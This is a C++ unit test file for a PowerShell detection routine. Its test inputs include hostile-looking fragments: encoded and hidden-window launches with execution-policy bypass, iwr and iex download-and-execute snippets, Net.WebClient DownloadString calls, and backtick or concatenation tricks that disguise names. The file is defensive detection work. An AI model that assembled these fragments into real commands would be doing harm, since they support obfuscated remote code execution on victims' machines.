#include "detect/powershell.hpp"

#include <boost/test/unit_test.hpp>
#include <string>

using gird::detect::Sign;
using gird::detect::Signs;

namespace {

std::string seen(std::string_view text) {
  Signs signs;
  gird::detect::powershell_signs(text, signs);
  std::string names;
  for (const Sign& sign : signs.all()) names += " " + std::string(sign.name.substr(11));
  return names;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(powershell)

BOOST_AUTO_TEST_CASE(the_interpreter_and_its_options) {
  BOOST_TEST(seen("powershell -enc SQBFAFgAIAA=") == " encoded");
  BOOST_TEST(seen("powershell.exe -NoP -W Hidden -c x") == " launch encoded");
  BOOST_TEST(seen("pwsh -ep bypass -f x.ps1") == " encoded");
  BOOST_TEST(seen("powershell -Command dir") == " launch");
  BOOST_TEST(seen("powershell C:\\x.ps1") == " launch");
}

BOOST_AUTO_TEST_CASE(cmdlets_and_their_short_names) {
  BOOST_TEST(seen("New-Object Net.WebClient") == " cmdlet");
  BOOST_TEST(seen("start-process 'calc'") == " cmdlet");
  BOOST_TEST(seen(";iwr http://a.example/x.ps1") == " alias");
  BOOST_TEST(seen("x|iex") == " alias");
  BOOST_TEST(seen("iex(New-Object Net.WebClient)") == " alias cmdlet");
  BOOST_TEST(seen("use Invoke-WebRequest here") == " cmdlet-name");
}

BOOST_AUTO_TEST_CASE(names_that_hide) {
  BOOST_TEST(seen("i`e`x y") == " disguised");
  BOOST_TEST(seen("Inv`oke-Exp`ression y") == " disguised");
  BOOST_TEST(seen("& ('i'+'ex') y") == " call");
}

BOOST_AUTO_TEST_CASE(members_of_dotnet) {
  BOOST_TEST(seen("$c.DownloadString('x')") == " member");
  BOOST_TEST(seen("[Convert]::FromBase64String($x)") == " member static-call");
}

BOOST_AUTO_TEST_CASE(what_only_looks_like_one) {
  for (const std::string_view text :
       {"", "a re-start (x)", "get-well card", "PowerShell - a shell", "`iex`", "std::string",
        "a[i]::b", "Tom & (\"Jerry\" the mouse)", "a; sal and pepper", "see DownloadString.",
        "-enc x", "the `-x` option"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == ""); }
  }
}

BOOST_AUTO_TEST_CASE(long_texts_take_linear_time) {
  for (const std::string_view piece :
       {"-", "a-", "`", "a`", "::", "]::", "a.", "&(", "&('", ";iex", " -e"}) {
    std::string text;
    while (text.size() < (std::size_t{1} << 20U)) text += piece;
    BOOST_TEST_CONTEXT(piece) {
      seen(text);
      BOOST_TEST(true);
    }
  }
}

BOOST_AUTO_TEST_SUITE_END()
